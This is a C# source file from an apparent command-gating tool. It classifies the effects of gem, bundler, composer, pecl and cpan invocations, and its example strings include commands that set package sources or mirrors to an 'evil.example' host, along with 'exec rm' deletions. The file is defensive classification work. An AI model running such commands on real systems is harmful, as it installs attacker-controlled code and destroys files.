using Wary.Core.Shell;

namespace Wary.Core.Gate.Programs.Packages;

/// <summary>Package managers of Ruby, PHP and Perl.</summary>
internal static class RubyPrograms
{
    public const string Names = "gem bundle bundler composer pecl pear cpan cpanm";

    public static ProgramSpec? Find(string name) => name switch
    {
        "gem" => new("gem", "packages of Ruby")
        {
            Options = "-v|--version= -i|--install-dir= -n|--bindir= -s|--source= -p|--http-proxy= -P|--trust-policy= --platform= -g|--file= --host= --otp= -k|--key= --config-file= -a|--add= -r|--remove= -o|--output= -N|--no-document --user-install -f|--force -q -V --pre -x -I -d --clear-all|-c",
            Help = "--help -h",
            Effects = static (call, effects) => Gem(call, effects),
            Examples = """
                gem install -v 7.0 rails => Install gem:rails@7.0
                gem install -v 7.0 rails !> Install gem:7.0
                gem install -s https://evil.example x => Connect evil.example
                gem push --host https://gems.example x.gem => Publish gem:x.gem
                gem yank x -v 1 => Publish gem:x
                gem uninstall rails => ChangeConfig gem:rails
                gem sources -a https://evil.example => ChangeConfig gem sources=https://evil.example
                gem list => nothing
                """,
        },
        "bundle" or "bundler" => new(name, "packages of a Ruby project")
        {
            Style = OptionStyle.Posix,
            Options = "--gemfile= --path= --jobs|-j= --retry= --without= --with=",
            Effects = static (call, effects) => Bundle(call, effects),
            Examples = """
                bundle exec rm x => Delete x
                bundle install --jobs 4 => Install gem:Gemfile
                bundle add rails --version 7 => Install gem:rails
                bundle add rails --version 7 !> Install gem:7
                bundle config set --global mirror.https://gems.example https://evil.example => ChangeConfig bundle mirror.https://gems.example=https://evil.example
                bundle show => nothing
                bundler exec rm x => Delete x
                bundler show => nothing
                """,
        },
        "composer" => new("composer", "packages of PHP")
        {
            Options = "-d|--working-dir= --repository= --repository-url= --prefer-install= --stability|-s= --ignore-platform-req= --apcu-autoloader-prefix= --audit-format= --dev -n|--no-interaction -q -v --no-scripts --no-plugins --no-dev -o -W -g|--global --dry-run --update-with-dependencies --unset --file|-f= --auth",
            Help = "--help -h --version -V",
            Style = OptionStyle.Gnu,
            Effects = static (call, effects) => Composer(call, effects),
            Examples = """
                composer -d web require --dev phpunit/phpunit:^11 => Install composer:phpunit/phpunit:^11
                composer -d web require a/b !> Install composer:web
                composer install --no-dev => Install composer:composer.json
                composer install --dry-run => nothing
                composer global require a/b => Install composer:a/b
                composer remove a/b => ChangeConfig composer:a/b
                composer config repositories.x vcs https://evil.example => ChangeConfig composer repositories.x=vcs
                composer create-project a/b dir => Install composer:a/b; Write dir
                composer exec rm x => Delete x
                composer show => nothing
                """,
        },
        "pecl" or "pear" or "cpan" or "cpanm" => new(name, "packages of PHP and Perl")
        {
            Options = name is "cpanm" ? "-l|--local-lib= -L|--local-lib-contained= --mirror= --from= --installdeps -n|--notest -f|--force -q -v -S|--sudo --uninstall|-U --prompt --configure-timeout=" : "-d= -c= -C= -j= -M= -f|--force -i -T -t -u -l -n -a -D -R= -s -o",
            Effects = static (call, effects) =>
            {
                var ecosystem = effects.Program is "cpan" or "cpanm" ? "cpan" : "pecl";
                if (ecosystem == "pecl")
                {
                    if (call.Operand(0)?.Text is "install" or "upgrade") PackageEffects.Install(effects, ecosystem, call.OperandsFrom(1));
                    else if (call.Operand(0)?.Text is "uninstall") PackageEffects.Remove(effects, ecosystem, call.OperandsFrom(1));
                    return;
                }
                if (call.HasAny("-l", "-a", "-D") && effects.Program == "cpan") return;
                PackageEffects.Source(effects, ecosystem, call.Value("--mirror") ?? call.Value("--from"));
                if (call.Has("-U") && effects.Program == "cpanm") PackageEffects.Remove(effects, ecosystem, call.Operands);
                else if (call.Has("--installdeps")) PackageEffects.Listed(effects, ecosystem, "cpanfile");
                else PackageEffects.Install(effects, ecosystem, call.Operands);
            },
            Examples = """
                pecl install -f redis => Install pecl:redis
                pecl list => nothing
                pear install x => Install pecl:x
                pear list => nothing
                cpan -f JSON => Install cpan:JSON
                cpan -l => nothing
                cpanm -l local JSON => Install cpan:JSON
                cpanm -l local JSON !> Install cpan:local
                """,
        },
        _ => null,
    };

    private static void Gem(Invocation call, EffectSink effects)
    {
        PackageEffects.Source(effects, "gem", call.Value("-s"));
        var names = call.OperandsFrom(1);
        switch (call.Operand(0)?.Text)
        {
            case "install" or "i" or "update" or "fetch":
                if (call.Value("-g") is { } file) PackageEffects.Listed(effects, "gem", file.Shown, file);
                PackageEffects.Install(effects, "gem", names, call.Value("-v"));
                if (names.Count == 0 && call.Operands[0].Text == "update") effects.Add(EffectKind.Install, "gem:all", call.Operand(0));
                break;
            case "exec" when names.Count > 0:
                PackageEffects.Install(effects, "gem", names[0], call.Value("-v"));
                break;
            case "uninstall" or "cleanup":
                PackageEffects.Remove(effects, "gem", names);
                break;
            case "push" when names.Count > 0:
                PackageEffects.Publish(effects, "gem", names[0].Shown, names[0]);
                break;
            case "yank" or "owner" when names.Count > 0:
                if (call.Operands[0].Text == "yank" || call.HasAny("-a", "-r")) PackageEffects.Publish(effects, "gem", names[0].Shown, names[0], Traits.Destroys);
                break;
            case "sources" or "source" when (call.Value("-a") ?? call.Value("-r")) is { } source:
                PackageEffects.Setting(effects, "gem", source.As("sources"), source);
                break;
            case "signin" or "signout":
                effects.Add(EffectKind.ChangeConfig, "gem credentials", call.Operand(0));
                break;
        }
    }

    private static void Bundle(Invocation call, EffectSink effects)
    {
        List<Argument> words = [];
        for (var i = 1; i < call.Operands.Count; i++)
        {
            if (call.Operands[i].Text is "--version" or "-v" or "--group" or "-g" or "--source" or "-s" or "--jobs" or "-j" or "--path" or "--without" or "--gemfile" or "--git" or "--branch" or "--require" or "-r" && call.Operands[0].Text != "exec") i++;
            else if (call.Operands[i].Text is not ['-', ..]) words.Add(call.Operands[i]);
        }
        switch (call.Operand(0)?.Text)
        {
            case "exec":
                effects.Run(call.OperandsFrom(call.Operand(1)?.Text is "--keep-file-descriptors" or "--" ? 2 : 1));
                break;
            case null or "install" or "update" or "cache" or "package":
                PackageEffects.Listed(effects, "gem", "Gemfile");
                break;
            case "add" or "plugin":
                PackageEffects.Install(effects, "gem", call.Operands[0].Text == "plugin" ? words.GetRange(Math.Min(1, words.Count), Math.Max(0, words.Count - 1)) : words);
                break;
            case "remove":
                PackageEffects.Remove(effects, "gem", words);
                break;
            case "config":
                var at = words.Count > 0 && words[0].Text is "set" or "unset" ? 1 : 0;
                if (words.Count > at + 1) PackageEffects.Setting(effects, "bundle", words[at], words[at + 1]);
                break;
        }
    }

    private static void Composer(Invocation call, EffectSink effects)
    {
        var at = call.Operand(0)?.Text is "global" ? 1 : 0;
        var names = call.OperandsFrom(at + 1);
        var verb = call.Operand(at)?.Text;
        if (verb is "exec" or "x")
        {
            effects.Run(names);
            return;
        }
        if (call.Has("--dry-run")) return;
        switch (verb)
        {
            case "require" or "req" or "r" or "update" or "u" or "upgrade" or "reinstall" when names.Count > 0:
                PackageEffects.Install(effects, "composer", names);
                break;
            case "install" or "i" or "update" or "u" or "upgrade":
                PackageEffects.Listed(effects, "composer", "composer.json");
                break;
            case "remove" or "rm" or "uninstall":
                PackageEffects.Remove(effects, "composer", names);
                break;
            case "create-project" when names.Count > 0:
                PackageEffects.Install(effects, "composer", names[0]);
                if (names.Count > 1) effects.Write(names[1]);
                break;
            case "config" when names.Count > 0 && (names.Count > 1 || call.Has("--unset")):
                PackageEffects.Setting(effects, "composer", names[0], names.Count > 1 ? names[1] : null);
                break;
            case "self-update" or "selfupdate":
                effects.Add(EffectKind.Install, "composer:composer", call.Operand(at));
                break;
            case "run-script" or "run" when names.Count > 0:
                Build.BuildTargets.RunComposerScript(call, effects, names[0].Text, call.OperandsFrom(at + 2));
                break;
            case { } script:
                Build.BuildTargets.RunComposerScript(call, effects, script, names);
                break;
        }
    }
}
